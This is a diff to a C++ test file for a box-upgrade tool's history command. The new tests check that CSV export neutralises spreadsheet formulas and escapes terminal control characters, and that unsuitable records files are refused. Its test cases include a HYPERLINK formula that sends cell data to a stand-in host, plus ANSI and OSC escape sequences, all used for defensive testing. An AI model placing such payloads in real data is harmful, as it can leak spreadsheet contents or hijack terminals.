@@ -2,11 +2,15 @@
 
 #include <gtest/gtest.h>
 
+#include <sys/stat.h>
+
 #include <cstdio>
+#include <filesystem>
 #include <fstream>
 #include <nlohmann/json.hpp>
 #include <sstream>
 
+#include "cli/record_export.h"
 #include "records/record_database.h"
 #include "tests/records/sample_records.h"
 #include "tests/support/temp_dir.h"
@@ -211,18 +215,113 @@ TEST_F(HistoryCommandTest, CsvQuotesWhatNeedsIt) {
   const Result csv = History({"--records", path, "--csv", "--port", "COM2"});
   EXPECT_EQ(csv.status, 0);
   const std::vector<std::string> lines = Lines(csv.out);
-  ASSERT_EQ(lines.size(), 3u);  // the header, and a record whose log spans two lines
+  ASSERT_EQ(lines.size(), 2u);  // the header, and the record on one line
   EXPECT_EQ(lines[0],
             "record_id,started_at,ended_at,station,front_end,port,loader_kind,loader_version,"
             "flash_size,flash_chip,box_model,box_hw,box_sw,image_path,image_size,image_sha256,"
             "image_model,image_hw,image_sw,image_type,blocks_sent,blocks_retried,seconds,"
             "verdict,exit_status,log_tail");
-  EXPECT_EQ(lines[1] + "\n" + lines[2],
+  EXPECT_EQ(lines[1],
             "00000000-0000-4000-8000-000000000003,2026-12-08T08:15:00.000Z,"
             "2026-12-08T12:01:00.500Z,bench-3,upgrade,COM2,5518,0217,1,2782,"
-            "\"A,\"\"B\"\"\x1b[2J\xC3\xA9\",01.02.03,01.00.00,/srv/images/mx1.bin,786533,,MX1,"
+            "\"A,\"\"B\"\"\\x1B[2J\xC3\xA9\",01.02.03,01.00.00,/srv/images/mx1.bin,786533,,MX1,"
             "01.02.03,04.05.06,CODE,768,0,15.500,port_gone,7,"
-            "\"0005 Block Retry\nCOM2 has gone away, \"\"really\"\"\"");
+            "\"0005 Block Retry\\x0ACOM2 has gone away, \"\"really\"\"\"");
+}
+
+// What a box calls itself must never become a spreadsheet formula, nor
+// reach a terminal as a control sequence, whichever field it lands in.
+TEST_F(HistoryCommandTest, CsvDefendsCellsAgainstFormulasAndControlCharacters) {
+  const struct {
+    const char* model;
+    const char* cell;
+  } cases[] = {
+      {"=HYPERLINK(\"http://x/?\"&A1;\"click\")",
+       "\"'=HYPERLINK(\"\"http://x/?\"\"&A1;\"\"click\"\")\""},
+      {"+1+1", "'+1+1"},
+      {"-2+3", "'-2+3"},
+      {"@SUM(A1)", "'@SUM(A1)"},
+      {"\t=1", "'\\x09=1"},
+      {"\r=1", "'\\x0D=1"},
+      {"a=b", "a=b"},    // only the first character counts
+      {"MX-1", "MX-1"},  // an ordinary name stays as it is
+      {"\x1b]0;owned\x07", "\\x1B]0;owned\\x07"},
+      {"\xC2\x9B" "2J", "\\x9B2J"},  // C1, as a record holds it
+      {"\n", "\\x0A"},
+  };
+  std::vector<BoxRecord> hostile;
+  for (std::size_t k = 0; k < std::size(cases); ++k) {
+    BoxRecord r = SampleRecord(100 + static_cast<int>(k), Verdict::kUpgraded);
+    r.port = "COM7";
+    r.box_model = cases[k].model;
+    r.log_tail = cases[k].model;
+    hostile.push_back(r);
+  }
+  RecordDatabase(path, RecordDatabase::Mode::kWrite).Insert(hostile);
+  const Result csv = History({"--records", path, "--csv", "--port", "COM7"});
+  ASSERT_EQ(csv.status, 0) << csv.err;
+  const std::vector<std::string> lines = Lines(csv.out);
+  ASSERT_EQ(lines.size(), std::size(cases) + 1);
+  for (std::size_t k = 0; k < std::size(cases); ++k) {
+    SCOPED_TRACE(cases[k].model);
+    // box_model is the 11th field, log_tail the last.
+    EXPECT_NE(lines[k + 1].find(std::string(",") + cases[k].cell + ",01.02.03,"), std::string::npos)
+        << lines[k + 1];
+    EXPECT_TRUE(lines[k + 1].ends_with(std::string(",") + cases[k].cell)) << lines[k + 1];
+  }
+}
+
+TEST_F(HistoryCommandTest, RefusesWhatIsNotARecordsFileWithoutWaiting) {
+  const std::string fifo = dir.PathOf("fifo.sqlite3");
+  ASSERT_EQ(::mkfifo(fifo.c_str(), 0600), 0);
+  const std::string folder = dir.PathOf("folder.sqlite3");
+  std::filesystem::create_directory(folder);
+  const std::string loop = dir.PathOf("loop.sqlite3");
+  std::filesystem::create_symlink(loop, loop);
+  const std::string text = dir.WriteFile("notes.sqlite3", "boxes: 3\n");
+  const std::string dangling = dir.PathOf("dangling.sqlite3");
+  std::filesystem::create_symlink(dir.PathOf("gone.sqlite3"), dangling);
+  const std::string empty = dir.WriteFile("empty.sqlite3", "");
+  const struct {
+    std::string file;
+    int status;
+    std::string err;
+  } cases[] = {
+      {fifo, 1, "stbup: records: " + fifo + ": not a records file: a FIFO\n"},
+      {folder, 1, "stbup: records: " + folder + ": not a records file: a folder\n"},
+      {loop, 1,
+       "stbup: records: " + loop + ": cannot be read: Too many levels of symbolic links\n"},
+      {text, 1, "stbup: records: " + text + ": not a records file: not an SQLite database\n"},
+      {dangling, 0, "stbup: no records yet (" + dangling + ")\n"},
+      {empty, 0, ""},
+  };
+  for (const auto& test : cases) {
+    for (const char* shape : {"--json", "--csv"}) {
+      SCOPED_TRACE(test.file + " " + shape);
+      const Result result = History({"--records", test.file, shape});
+      EXPECT_EQ(result.status, test.status);
+      EXPECT_EQ(result.err, test.err);
+    }
+  }
+}
+
+TEST_F(HistoryCommandTest, TableReadsTheRecordsTwiceAndMatchesTheWholeTable) {
+  // Widths set by the last record: the first pass must have seen it.
+  BoxRecord wide = SampleRecord(50, Verdict::kUpgraded);
+  wide.started_at = "2026-12-09T00:00:00.000Z";
+  wide.port = "/dev/serial/by-id/usb-FTDI_a_very_long_adapter_name-if00";
+  RecordDatabase(path, RecordDatabase::Mode::kWrite).Insert({wide});
+  records.push_back(wide);
+  HistoryOptions options;
+  options.records_file = path;
+  options.out_is_terminal = true;
+  std::ostringstream out, err;
+  CommandIo io{out, err};
+  EXPECT_EQ(RunHistory(options, io), 0);
+  std::ostringstream whole;
+  WriteRecordsTable(records, whole);
+  EXPECT_EQ(out.str(), whole.str());
+  EXPECT_TRUE(out.str().ends_with("\n5 boxes\n"));
 }
 
 // Python's own csv and json modules read both exports back to the same
@@ -248,8 +347,12 @@ for row, obj in zip(rows, objects):
             want = "%.3f" % value
         else:
             want = str(value)
+        if want[:1] in ("=", "+", "-", "@", "\\t", "\\r"):
+            want = "'" + want
+        want = "".join("\\x%02X" % ord(c) if ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F else c
+                       for c in want)
         assert row[name] == want, (name, row[name], want)
-print(len(rows), json.dumps(objects[3]["box_model"]), json.dumps(rows[3]["log_tail"]))
+print(len(rows), json.dumps(objects[3]["box_model"]), json.dumps(objects[3]["log_tail"]))
 )");
   const std::string out_path = dir.PathOf("python.out");
   const std::string command =
